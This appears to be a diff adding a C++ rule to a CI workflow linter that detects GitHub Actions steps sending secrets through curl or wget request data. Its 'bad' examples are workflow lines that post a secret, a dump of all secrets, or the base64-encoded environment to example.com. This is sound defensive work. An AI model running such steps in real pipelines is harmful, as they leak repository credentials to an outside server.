@@ -1,0 +1,141 @@
+#include "core/model/actions.h"
+#include "core/rules/rule.h"
+#include "core/rules/shared/step_commands.h"
+#include "core/rules/sink.h"
+#include "core/rules/wording.h"
+
+#include <algorithm>
+#include <string_view>
+#include <vector>
+
+namespace sluice::actions {
+namespace {
+
+constexpr std::string_view kWhy = R"(
+`curl --data` with a secret in it, or with a file named after secrets, is how secrets leave a pipeline. Some services take
+their own token this way, for which a header is the better place; a secret in a header is no finding.
+)";
+
+constexpr std::string_view kBad[] = {
+    R"(on: push
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: «curl -X POST -d "key=${{ secrets.KEY }}" https://example.com»
+)",
+    R"(on: push
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: |
+          echo "${{ toJSON(secrets) }}" > .secrets
+          «curl -s --data "@.secrets" https://example.com»
+      - run: env | base64 | «curl -d @- https://example.com»
+)",
+};
+constexpr std::string_view kGood[] = {
+    R"(on: push
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: 'curl -H "Authorization: Bearer ${{ secrets.KEY }}" https://example.com'
+      - run: curl -d "a=b" https://example.com
+      - run: echo "$A" | curl -d @- https://example.com
+)",
+    R"(on: push
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: echo curl -d "${{ secrets.KEY }}"
+      - run: curl -d @report.json https://example.com
+)",
+};
+constexpr std::string_view kAliases[] = {"checkov:CKV_GHA_3", "sisakulint:secret-exfiltration"};
+
+bool is_data_flag(std::string_view word) {
+  constexpr std::string_view kFlags[] = {"-d",
+                                         "-F",
+                                         "-T",
+                                         "--data",
+                                         "--data-raw",
+                                         "--data-binary",
+                                         "--data-urlencode",
+                                         "--form",
+                                         "--upload-file",
+                                         "--json",
+                                         "--post-data",
+                                         "--post-file",
+                                         "--body-data"};
+  return std::find(std::begin(kFlags), std::end(kFlags), word.substr(0, word.find('='))) !=
+         std::end(kFlags);
+}
+
+bool holds_secret(std::string_view data) {
+  if (data.find("${{") != data.npos && data.find("secrets") != data.npos) return true;
+  if (data.find("$(env)") != data.npos || data.find("$(printenv)") != data.npos) return true;
+  return data.find('@') != data.npos && data.find("secret") != data.npos;
+}
+
+// The whole environment is piped into the request.
+bool gets_environment(const std::vector<StepCommand>& commands, std::string_view script) {
+  return std::any_of(commands.begin(), commands.end(), [&](const StepCommand& command) {
+    return (command.program() == "env" || command.program() == "printenv") &&
+           command.words.size() == 1 && script.find('|') != script.npos;
+  });
+}
+
+bool sends_secret(const StepCommand& command, bool has_environment) {
+  for (std::size_t i = 1; i < command.words.size(); ++i) {
+    const std::string_view word = command.words[i];
+    if (!is_data_flag(word)) continue;
+    const std::size_t equals = word.find('=');
+    const std::string_view data = equals != word.npos            ? word.substr(equals + 1)
+                                  : i + 1 < command.words.size() ? command.words[i + 1]
+                                                                 : std::string_view();
+    if (holds_secret(data) || (has_environment && data == "@-")) return true;
+  }
+  return false;
+}
+
+void check(const Step& step, Sink& sink) {
+  if (step.script == nullptr) return;
+  const std::vector<StepCommand> commands = commands_of(step);
+  const bool has_environment = gets_environment(commands, step.run.value);
+  for (const StepCommand& command : commands) {
+    if (command.program() != "curl" && command.program() != "wget") continue;
+    if (!sends_secret(command, has_environment)) continue;
+    sink.report(command.at, quote(command.program()) + " sends a secret")
+        .with_node(step.node["run"].path());
+  }
+}
+
+}  // namespace
+
+extern constinit const Rule secret_exfiltration{
+    .id = "actions/secret-exfiltration",
+    .severity = Severity::medium,
+    .confidence = Confidence::low,
+    .persona = Persona::pedantic,
+    .title = "Request carries a secret as its data",
+    .risk = "Whoever has the server, or the log of the request, has the secret.",
+    .fix =
+        "Authenticate in a header with a short-lived token, and send no secret that belongs to "
+        "another service.",
+    .aliases = kAliases,
+    .topics = {Topic::credentials, Topic::network},
+    .check = check,
+    .in_clear = true,
+};
+
+extern constinit const RuleDoc secret_exfiltration_doc{.rule = secret_exfiltration,
+                                                       .why = kWhy,
+                                                       .source = "CWE-522",
+                                                       .path = ".github/workflows/ci.yml",
+                                                       .bad = kBad,
+                                                       .good = kGood};
+
+}  // namespace sluice::actions
